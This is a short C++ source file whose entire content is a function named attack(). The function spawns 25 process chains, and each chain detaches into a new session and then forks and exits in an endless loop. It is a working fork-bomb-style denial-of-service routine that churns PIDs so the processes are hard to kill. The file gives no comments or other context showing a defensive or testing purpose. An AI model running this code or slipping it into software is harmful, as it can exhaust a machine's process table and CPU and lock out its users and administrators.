#include <sched.h>
#include <unistd.h>
#include <csignal>

static void chain() {
    ::setsid();
    for (;;) {
        const pid_t child = ::fork();
        if (child > 0) ::_exit(0);
        if (child < 0) ::sched_yield();
    }
}

void attack() {
    ::signal(SIGCHLD, SIG_IGN);
    for (int i = 0; i < 25; ++i)
        if (::fork() == 0) chain();
    ::usleep(100'000);
}
